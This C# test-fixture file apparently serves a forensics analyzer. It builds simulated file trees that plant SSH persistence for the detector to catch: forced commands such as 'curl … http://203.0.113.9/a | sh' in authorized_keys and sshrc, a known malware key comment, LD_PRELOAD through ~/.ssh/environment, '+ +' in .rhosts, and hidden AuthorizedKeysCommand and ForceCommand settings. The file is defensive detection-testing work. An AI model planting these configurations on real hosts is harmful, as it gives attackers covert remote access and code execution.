using System.Security.Cryptography;
using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Keys, the SSH server's settings, and what it runs at a login.</summary>
internal static class SshPlants
{
    private const string Keys = "/.ssh/authorized_keys";
    private const string Server = "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n";

    public static IReadOnlyList<Plant> All { get; } =
    [
        // Keys.
        new("L-SSH-KEYS", "comment-of-malware", Loud, tree => RootKey(tree, Key("mdrfckr", "mdrfckr"))) { Rule = "known-bad-comment" },
        new("L-SSH-KEYS", "comment-of-malware-others-may-write", Dormant, tree => RootKey(tree, Key("mdrfckr", "mdrfckr"), 0b110_110_110)) { TwinOf = "comment-of-malware" },
        new("L-SSH-KEYS", "comment-of-malware-no-keys-accepted", Dormant, tree => RootKey(tree, Key("mdrfckr", "mdrfckr")).File("/etc/ssh/sshd_config.d/10-keys.conf", "PubkeyAuthentication no\n")) { TwinOf = "comment-of-malware" },
        new("L-SSH-KEYS", "forced-command-downloads", Loud, tree => RootKey(tree, "command=\"curl -fsSL http://203.0.113.9/a | sh\" " + Key("x", "deploy@ci"))),
        new("L-SSH-KEYS", "quiet-forced-command", Quiet, tree => RootKey(tree, "command=\"/usr/sbin/netmond\" " + Key("y", "backup@vault")).LinkedNetmond()) { Entries = [] },
        new("L-SSH-KEYS", "quiet-forced-command-others-may-write", Dormant, tree => RootKey(tree, "command=\"/usr/sbin/netmond\" " + Key("y", "backup@vault"), 0b110_110_110).LinkedNetmond()) { TwinOf = "quiet-forced-command" },
        new("L-SSH-KEYS", "quiet-key-of-a-daemon", Quiet, tree => tree.File("/var/www/.ssh/authorized_keys", Key("z", "deploy@web"), 0b110_000_000, 33, 33)) { Entries = [], AtLeast = Severity.Medium, Rule = "account-without-shell" },
        new("L-SSH-KEYS", "quiet-key-of-a-daemon-in-usr-sbin", Quiet, tree => tree.File("/usr/sbin/.ssh/authorized_keys", Key("z", "deploy@web"), 0b110_000_000, 1, 1)) { Entries = [], AtLeast = Severity.Medium },
        new("L-SSH-KEYS", "quiet-same-key-as-root", Quiet, tree => RootKey(tree, Key("s", "alice@laptop")).File("/home/alice" + Keys, Key("s", "alice@laptop"), 0b110_000_000, 1000, 1000)) { Entries = [], AtLeast = Severity.Medium, Rule = "shared-with-root" },
        new("L-SSH-KEYS", "quiet-locked-file", Quiet, tree => RootKey(tree, Key("l", "ops@bastion")).Change("/root" + Keys, file => file with { Flags = 0x10 })) { Entries = [], AtLeast = Severity.Medium },
        new("L-SSH-KEYS", "quiet-key-in-central-file", Quiet, tree => tree.File("/etc/ssh/sshd_config.d/20-keys.conf", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys.d/%u\n").File("/etc/ssh/keys.d/www-data", Key("c", "web@build")))
            { Entries = [], AtLeast = Severity.Medium },
        new("L-SSH-KEYS", "quiet-planted-key-pair", Quiet, tree => RootKey(tree, Key("p", "root@web01")).File("/root/.ssh/id_rsa1822.pub", Key("p", "root@web01")).File("/root/.ssh/id_rsa1822", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n", 0b110_000_000))
            { Entries = [], AtLeast = Severity.Medium, Rule = "private-key-beside" },
        new("L-SSH-KEYS", "misspelt-file-name", Loud, tree => tree.File("/root/.ssh/authoried_keys", Key("m", "root@host"), 0b110_000_000)) { AtLeast = Severity.Medium, Rule = "misspelt-file" },
        new("L-SSH-KEYS", "cloud-image-root-line", Benign, tree => RootKey(tree, "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"debian\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" " + Key("cloud", "alice@laptop"))
            .File("/home/alice" + Keys, Key("cloud", "alice@laptop"), 0b110_000_000, 1000, 1000)),
        new("L-SSH-KEYS", "rrsync-and-git", Benign, tree => RootKey(tree, "restrict,command=\"/usr/bin/rsync --server -logDtpre.iLsfxC . /srv/backup\" " + Key("b", "backup@nas")).File("/home/alice" + Keys, "command=\"/usr/bin/git shell key-17\",no-pty " + Key("g", "alice"), 0b110_000_000, 1000, 1000)),
        new("L-SSH-KEYS", "own-key-for-localhost", Benign, tree => tree.File("/home/alice" + Keys, Key("own", "alice@web01"), 0b110_000_000, 1000, 1000).File("/home/alice/.ssh/id_ed25519.pub", Key("own", "alice@web01"), 0b110_100_100, 1000, 1000).File("/home/alice/.ssh/id_ed25519", "x\n", 0b110_000_000, 1000, 1000)),

        // Server.
        new("L-SSHD", "keys-from-hidden-program", Loud, tree => tree.File("/etc/ssh/sshd_config.d/10-ak.conf", "AuthorizedKeysCommand /usr/lib/.ak %u\nAuthorizedKeysCommandUser root\n").Script("/usr/lib/.ak", "#!/bin/sh\necho ssh-ed25519 x\n")),
        new("L-SSHD", "empty-passwords", Loud, tree => tree.File("/etc/ssh/sshd_config.d/10-auth.conf", "PermitEmptyPasswords yes\n")) { Rule = "empty-passwords" },
        new("L-SSHD", "empty-passwords-after-another-line", Dormant, tree => tree.File("/etc/ssh/sshd_config.d/10-ak.conf", "AuthorizedKeysCommand /usr/sbin/nologin\n").File("/etc/ssh/sshd_config.d/20-ak.conf", "Subsystem sftp2 internal-sftp\nForceCommand /bin/true\nForceCommand /var/tmp/login\n").Program("/var/tmp/login"))
            { TwinOf = "quiet-forced-for-all" },
        new("L-SSHD", "root-with-password", Loud, tree => tree.File("/etc/ssh/sshd_config.d/10-auth.conf", "PermitRootLogin yes\nPasswordAuthentication yes\n")) { AtLeast = Severity.Medium },
        new("L-SSHD", "quiet-keys-from-unowned-program", Quiet, tree => tree.File("/etc/ssh/sshd_config.d/10-ak.conf", "AuthorizedKeysCommand /usr/sbin/ssh-keycheck %u\nAuthorizedKeysCommandUser nobody\n").Program("/usr/sbin/ssh-keycheck")) { Entries = ["/etc/ssh/sshd_config.d/10-ak.conf"] },
        new("L-SSHD", "quiet-forced-for-all", Quiet, tree => tree.File("/etc/ssh/sshd_config.d/20-ak.conf", "Subsystem sftp2 internal-sftp\nForceCommand /var/tmp/login\n").Program("/var/tmp/login")) { Entries = [] },
        new("L-SSHD", "quiet-subsystem", Quiet, tree => tree.Replace("/etc/ssh/sshd_config", Encoding.ASCII.GetBytes(Server + "Subsystem backup /usr/sbin/netmond\n")).LinkedNetmond()) { Entries = [] },
        new("L-SSHD", "quiet-option-in-default-file", Quiet, tree => tree.File("/etc/default/ssh", "SSHD_OPTS=\"-o AuthorizedKeysCommand=/usr/sbin/ssh-keycheck -o AuthorizedKeysCommandUser=root\"\n").Program("/usr/sbin/ssh-keycheck")) { Entries = ["/etc/default/ssh"] },
        new("L-SSHD", "quiet-option-in-drop-in", Quiet, tree => tree.File("/etc/systemd/system/ssh.service.d/opts.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o AuthorizedKeysFile=/var/lib/.keys/%u -o TrustedUserCAKeys=/var/lib/.keys/ca.pub\n")) { Entries = [] },
        new("L-SSHD", "file-that-nothing-includes", Dormant, tree => tree.File("/etc/ssh/sshd_config", "Include /etc/ssh/other.d/*.conf\nUsePAM yes\n").File("/etc/ssh/sshd_config.d/20-ak.conf", "ForceCommand /var/tmp/login\n").Program("/var/tmp/login")) { TwinOf = "quiet-forced-for-all" },
        new("L-SSHD", "cloud-key-helpers", Benign, tree => tree.File("/etc/ssh/sshd_config.d/60-eic.conf", "AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f\nAuthorizedKeysCommandUser ec2-instance-connect\n").Script("/usr/share/ec2-instance-connect/eic_run_authorized_keys", "#!/bin/sh\nexit 0\n")),
        new("L-SSHD", "sftp-only-group", Benign, tree => tree.Replace("/etc/ssh/sshd_config", Encoding.ASCII.GetBytes(Server + "Port 22\nPort 2222\nMatch Group sftponly\n  ChrootDirectory %h\n  ForceCommand internal-sftp\n  AllowTcpForwarding no\n"))),
        new("L-SSHD", "certificate-authority", Benign, tree => tree.File("/etc/ssh/sshd_config.d/30-ca.conf", "TrustedUserCAKeys /etc/ssh/ca.pub\n").File("/etc/ssh/ca.pub", Key("ca", "ssh-ca"))),

        // Login files.
        new("L-SSH-RC", "downloads", Loud, tree => tree.File("/etc/ssh/sshrc", "curl -fsSL http://203.0.113.9/x | sh\n")),
        new("L-SSH-RC", "every-host-every-user", Loud, tree => tree.File("/root/.rhosts", "+ +\n")) { Rule = "trusts-anybody" },
        new("L-SSH-RC", "quiet-hidden-program", Quiet, tree => tree.File("/home/alice/.ssh/rc", "/usr/sbin/netmond &\n", user: 1000, group: 1000).LinkedNetmond()) { Entries = ["/home/alice/.ssh/rc"] },
        new("L-SSH-RC", "quiet-unowned-program", Quiet, tree => tree.File("/etc/ssh/sshrc", "if [ -n \"$SSH_CONNECTION\" ]; then /usr/sbin/netmond; fi\n").Program("/usr/sbin/netmond")) { Entries = ["/etc/ssh/sshrc"], AtLeast = Severity.Medium },
        new("L-SSH-RC", "quiet-preload-in-environment", Quiet, tree => tree.File("/etc/ssh/sshd_config.d/10-env.conf", "PermitUserEnvironment yes\n").File("/root/.ssh/environment", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program("/usr/lib/x86_64-linux-gnu/libutilx.so.1", new PlantedElf { Seed = "u", IsLibrary = true }))
            { Entries = ["/root/.ssh/environment"] },
        new("L-SSH-RC", "preload-not-permitted", Dormant, tree => tree.File("/root/.ssh/environment", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program("/usr/lib/x86_64-linux-gnu/libutilx.so.1", new PlantedElf { Seed = "u", IsLibrary = true })) { TwinOf = "quiet-preload-in-environment" },
        new("L-SSH-RC", "quiet-trusted-host", Quiet, tree => tree.File("/etc/hosts.equiv", "build.example alice\n")) { Entries = ["/etc/hosts.equiv"], AtLeast = Severity.Medium },
        new("L-SSH-RC", "name-that-nothing-reads", Dormant, tree => tree.File("/home/alice/.ssh/rc.old", "/usr/sbin/netmond &\n", user: 1000, group: 1000).LinkedNetmond()) { TwinOf = "quiet-hidden-program" },
        new("L-SSH-RC", "xauth-of-the-manual", Benign, tree => tree.File("/etc/ssh/sshrc", "if read proto cookie && [ -n \"$DISPLAY\" ]; then\n  if [ `echo $DISPLAY | cut -c1-10` = 'localhost:' ]; then\n    # X11UseLocalhost=yes\n    echo add unix:`echo $DISPLAY |\n      cut -c11-` $proto $cookie\n  else\n    echo add $DISPLAY $proto $cookie\n  fi | xauth -q -\nfi\n")),
        new("L-SSH-RC", "agent-socket-link", Benign, tree => tree.File("/home/alice/.ssh/rc", "# keep the agent reachable from tmux\nif [ -S \"$SSH_AUTH_SOCK\" ]; then\n  ln -sf \"$SSH_AUTH_SOCK\" ~/.ssh/ssh_auth_sock\nfi\n", user: 1000, group: 1000).File("/home/alice/.k5login", "alice@EXAMPLE.COM\n", user: 1000, group: 1000)),
    ];

    internal static string Key(string seed, string comment)
    {
        byte[] blob = [0, 0, 0, 11, .. "ssh-ed25519"u8, 0, 0, 0, 32, .. SHA256.HashData(Encoding.UTF8.GetBytes(seed))];
        return $"ssh-ed25519 {Convert.ToBase64String(blob)} {comment}\n";
    }

    private static PlantTree RootKey(PlantTree tree, string line, int mode = 0b110_000_000) => tree.File("/root" + Keys, line, mode);
}
